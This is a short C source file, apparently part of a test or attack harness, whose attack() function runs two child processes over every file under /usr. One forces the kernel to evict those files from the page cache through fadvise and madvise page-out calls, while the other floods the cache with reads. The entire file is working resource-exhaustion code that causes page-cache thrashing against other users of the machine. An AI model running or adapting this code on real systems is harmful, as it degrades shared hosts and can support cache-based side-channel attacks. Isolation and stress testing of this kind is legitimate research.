#include "storm.h"
#include <ftw.h>

static char block[1 << 18];
static int turn;

/* One child has the kernel drop what others need, by telling it so; the other crowds it out by reading. */
static int visit(const char *path, const struct stat *data, int kind) {
    if (kind != FTW_F || !S_ISREG(data->st_mode)) return 0;
    int file = open(path, O_RDONLY | O_NOATIME);
    if (file < 0) file = open(path, O_RDONLY);
    if (file < 0) return 0;
    if (turn == 0) {
        posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
        syscall(SYS_readahead, file, 0, 1 << 20);
        posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
        void *seen = mmap(0, 1 << 16, PROT_READ, MAP_SHARED, file, 0);
        if (seen != MAP_FAILED) {
            /* MADV_COLD, MADV_PAGEOUT */
            madvise(seen, 1 << 16, 20);
            madvise(seen, 1 << 16, 21);
            munmap(seen, 1 << 16);
        }
    } else {
        while (read(file, block, sizeof block) > 0) {}
    }
    close(file);
    return 0;
}

static void once(int child) {
    turn = child;
    ftw("/usr", visit, 16);
}

int attack(void) { return storm(2, once); }
